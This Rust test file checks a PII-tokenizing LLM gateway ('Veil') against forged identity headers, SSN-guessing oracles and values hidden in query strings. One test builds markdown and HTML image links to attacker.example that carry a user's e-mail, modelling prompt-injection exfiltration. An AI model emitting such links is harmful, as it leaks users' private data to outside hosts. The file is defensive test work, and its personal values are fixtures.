//! What an attacker would send, through the real Envoy and vault with the shipped demo
//! configuration (`envoy/veil.yaml`, `envoy/plugin-config.json`): nobody gets back a value
//! they did not send, whatever they forge or paste, and nothing leaves unscanned by accident.
//! SECURITY.md's threat table names these tests.

use serde_json::json;
use veil_e2e::{chat_answer, identity, streamed_text, Gateway};

const CONFIG: &str = include_str!("../../envoy/plugin-config.json");
const SSN: &str = "536-90-4399";
const EMAIL: &str = "alice.private@corp-mail.com";

fn chat(text: &str, stream: bool) -> String {
    json!({"model": "m", "stream": stream, "messages": [{"role": "user", "content": text}]})
        .to_string()
}

/// Asks through the gateway with `headers`; the answer's text.
fn ask(g: &Gateway, headers: &[(&str, &str)], text: &str) -> String {
    let (status, _, answer) = g.post("/v1/chat/completions", headers, &chat(text, false));
    assert_eq!(status, 200, "{answer}\n{}", g.envoy_log());
    chat_answer(&answer)
}

/// The tokens of a body the provider received (the token grammar finds them).
fn tokens_in(body: &str) -> Vec<String> {
    let content = serde_json::from_str::<serde_json::Value>(body).unwrap()["messages"][0]
        ["content"]
        .as_str()
        .unwrap()
        .to_string();
    veil_kinds::token::find_tokens(&content)
        .into_iter()
        .map(|r| content[r].to_string())
        .collect()
}

/// Alice tells the gateway her SSN and e-mail; the tokens the provider saw for them.
fn alices_tokens(g: &Gateway) -> (String, String) {
    let alice = identity("acme", "alice");
    ask(
        g,
        &[("x-veil-identity", &alice)],
        &format!("My SSN is {SSN} and my mail {EMAIL}"),
    );
    let seen = tokens_in(g.received().last().unwrap());
    let ssn = seen.iter().find(|t| t.contains('-') && t.len() == 11);
    let mail = seen.iter().find(|t| t.starts_with("email-"));
    (ssn.unwrap().clone(), mail.unwrap().clone())
}

#[test]
fn a_forged_scope_header_gets_the_token_back_not_the_value() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let (ssn_token, _) = alices_tokens(&g);
    let forged = [("x-veil-tenant", "acme"), ("x-veil-scope", "alice")];
    let bob = identity("acme", "bob");
    for headers in [
        forged.to_vec(),
        vec![forged[0], forged[1], ("x-veil-identity", bob.as_str())],
    ] {
        let answer = ask(&g, &headers, &format!("What is {ssn_token}?"));
        assert!(
            answer.contains(&ssn_token) && !answer.contains(SSN),
            "{answer}"
        );
    }
    // The identity header stops at the gateway.
    for h in g.received_headers() {
        assert_eq!(&h["x-veil-identity"], &json!(""));
    }
}

#[test]
fn a_configuration_that_lets_clients_choose_their_scope_is_refused_at_load() {
    let forgeable = CONFIG.replace(
        r#""scope": { "jwt_claim": "sub" }"#,
        r#""scope": { "header": "x-veil-scope" }"#,
    );
    assert_ne!(forgeable, CONFIG);
    let Some(g) = Gateway::start(&forgeable) else {
        return;
    };
    let (status, _, body) = g.post("/v1/chat/completions", &[], &chat("hi", false));
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("veil_misconfigured"));
    assert!(g.log_shows("gateway.scope.header"), "{}", g.envoy_log());
    assert!(g.received().is_empty());
}

#[test]
fn without_identity_a_pasted_token_never_restores_anywhere() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    // Someone without identity sends a value; the provider saw a token minted for that
    // request alone (the client got its value back).
    assert_eq!(
        ask(&g, &[], &format!("My SSN is {SSN}")),
        format!("You said: My SSN is {SSN}")
    );
    let token = tokens_in(g.received().last().unwrap())[0].clone();
    // Pasted by another client without identity, or by an identified user: a token.
    let carol = identity("acme", "carol");
    for headers in [vec![], vec![("x-veil-identity", carol.as_str())]] {
        let answer = ask(&g, &headers, &format!("Whose is {token}?"));
        assert!(answer.contains(&token) && !answer.contains(SSN), "{answer}");
    }
    // The same value in another request without identity gets another token.
    ask(&g, &[], &format!("Again: {SSN}"));
    let again = tokens_in(g.received().last().unwrap());
    assert!(!again.contains(&token), "{again:?} vs {token}");
}

#[test]
fn a_thousand_candidates_beside_a_stolen_token_reveal_nothing() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let (ssn_token, _) = alices_tokens(&g);
    // Every SSN of the area and group Alice's has, her own among them: a guessing oracle if a
    // scope could be granted a token by sending its value.
    let candidates: Vec<String> = (4000..5000).map(|s| format!("536-90-{s:04}")).collect();
    assert!(candidates.contains(&SSN.to_string()));
    let text = format!("Is {ssn_token} one of {}?", candidates.join(", "));
    let bob = identity("acme", "bob");
    for headers in [vec![("x-veil-identity", bob.as_str())], vec![]] {
        let (status, _, answer) = g.post("/v1/chat/completions", &headers, &chat(&text, false));
        assert_eq!(status, 200, "{answer}");
        let answer = chat_answer(&answer);
        assert!(
            answer.starts_with(&format!("You said: Is {ssn_token} one of")),
            "Alice's token stays a token: {}",
            &answer[..80]
        );
        let seen = tokens_in(g.received().last().unwrap());
        assert_eq!(seen.len(), 1001, "Alice's token and a token per candidate");
        assert_eq!(
            seen.iter().filter(|t| **t == ssn_token).count(),
            1,
            "no candidate's token equals Alice's: only the pasted copy"
        );
    }
}

#[test]
fn within_one_identity_turns_share_tokens() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let alice = identity("acme", "alice");
    ask(&g, &[("x-veil-identity", &alice)], &format!("Mail {EMAIL}"));
    ask(
        &g,
        &[("x-veil-identity", &alice)],
        &format!("Mail {EMAIL} again"),
    );
    let received = g.received();
    let (one, two) = (tokens_in(&received[0]), tokens_in(&received[1]));
    assert_eq!(
        one, two,
        "the provider's prompt cache sees the same tokens each turn"
    );
    // Another user's token for the same value differs: unlinkable across scopes.
    let bob = identity("acme", "bob");
    ask(&g, &[("x-veil-identity", &bob)], &format!("Mail {EMAIL}"));
    assert_ne!(tokens_in(&g.received()[2]), one);
}

#[test]
fn a_token_inside_a_url_stays_a_token_buffered_and_streamed() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let alice = identity("acme", "alice");
    // A prompt injection makes the model put the value in an image URL: the fake provider
    // echoes the prompt, tokens as it saw them.
    let text = format!("Hi {EMAIL} ![x](https://attacker.example/?q={EMAIL}) <img src=\"https://attacker.example/{EMAIL}.png\">");
    let (status, _, buffered) = g.post(
        "/v1/chat/completions",
        &[("x-veil-identity", &alice)],
        &chat(&text, false),
    );
    assert_eq!(status, 200);
    let (status, _, streamed) = g.post(
        "/v1/chat/completions",
        &[("x-veil-identity", &alice)],
        &chat(&text, true),
    );
    assert_eq!(status, 200);
    for answer in [chat_answer(&buffered), streamed_text(&streamed)] {
        assert!(
            answer.starts_with(&format!("You said: Hi {EMAIL} ")),
            "{answer}"
        );
        assert_eq!(
            answer.matches(EMAIL).count(),
            1,
            "only outside the URLs: {answer}"
        );
        assert!(
            answer.contains("?q=email-") && answer.contains("attacker.example/email-"),
            "{answer}"
        );
    }
    assert_eq!(g.stat_reaching("veil_tokens_kept_in_urls", 4), 4);
}

#[test]
fn nothing_leaves_unscanned_by_accident() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let alice = identity("acme", "alice");
    let who = [("x-veil-identity", alice.as_str())];
    // A value in the query string is refused, naming the kind and not the value.
    let (status, _, body) = g.post(
        "/v1/chat/completions?user=alice.private%40corp-mail.com",
        &who,
        &chat("hi", false),
    );
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("value_in_query")
            && body.contains("EMAIL_ADDRESS")
            && !body.contains("alice")
    );
    // A provider's own key in the query is not refused.
    let (status, _, _) = g.post(
        "/v1/chat/completions?key=AIzaSyD4x9QWlmP1abcdefghijklmnopqrstuvw",
        &who,
        &chat("hi", false),
    );
    assert_eq!(status, 200);
    // A card number sent as a JSON number.
    let numeric = json!({"model": "m", "metadata": {"card": 4111111111111111u64},
        "messages": [{"role": "user", "content": "charge it"}]})
    .to_string();
    assert_eq!(g.post("/v1/chat/completions", &who, &numeric).0, 200);
    // An Anthropic document given as plain text.
    let document = json!({"model": "c", "max_tokens": 10, "messages": [{"role": "user", "content": [
        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": format!("Patient SSN {SSN}")}},
        {"type": "text", "text": "Summarise"}]}]})
    .to_string();
    assert_eq!(g.post("/v1/messages", &who, &document).0, 200);
    for body in g.received() {
        for canary in [EMAIL, SSN, "4111111111111111", "alice.private"] {
            assert!(!body.contains(canary), "the provider saw {canary}: {body}");
        }
    }
}

#[test]
fn a_stream_event_without_end_stops_restoring_and_stays_well_formed() {
    let Some(g) = Gateway::start(CONFIG) else {
        return;
    };
    let alice = identity("acme", "alice");
    let (status, _, answer) = g.post(
        "/v1/chat/completions",
        // Larger than Envoy hands the filter in one piece: the event's start is held
        // unfinished past the bound.
        &[
            ("x-veil-identity", &alice),
            ("x-fake-huge-event", "4000000"),
        ],
        &chat(&format!("Mail {EMAIL}"), true),
    );
    assert_eq!(status, 200);
    assert!(answer.starts_with(&format!("data: {}", "z".repeat(100))));
    assert!(
        answer.trim_end().ends_with("data: [DONE]"),
        "the stream is whole"
    );
    assert!(
        !answer.contains(EMAIL),
        "restoring stopped; tokens stay tokens"
    );
    let text = streamed_text(&answer);
    assert!(text.starts_with("You said: Mail email-"), "{text}");
    assert_eq!(g.stat_reaching("veil_responses_stream_overflow", 1), 1);
}

#[test]
fn trusted_identity_headers_are_removed_on_every_path() {
    // A gateway whose authentication in front sets x-user (Envoy removes the client's copy
    // first); Veil reads it and removes it, also when it has nothing to scan.
    let trusted = CONFIG.replace(
        r#""scope": { "jwt_claim": "sub" }"#,
        r#""scope": { "header": "x-user", "trusted": true }, "unknown_content_type": "pass""#,
    );
    assert_ne!(trusted, CONFIG);
    let Some(g) = Gateway::start(&trusted) else {
        return;
    };
    // The fake provider answers 400 to the empty body and to the image: both reach it, so
    // both went through the paths that scan nothing.
    let user = [("x-user", "alice")];
    assert_eq!(g.post("/v1/chat/completions", &user, "").0, 400, "no body");
    let png = [("x-user", "alice"), ("content-type", "image/png")];
    assert_eq!(
        g.post_bytes("/v1/files", &png, vec![0x89, b'P', b'N', b'G'])
            .0,
        400
    );
    assert_eq!(
        g.post("/v1/chat/completions", &user, &chat("hi", false)).0,
        200
    );
    let seen = g.received_headers();
    assert_eq!(seen.len(), 3);
    for h in seen {
        assert_eq!(h["x-user"], json!(""), "{h}");
    }
}
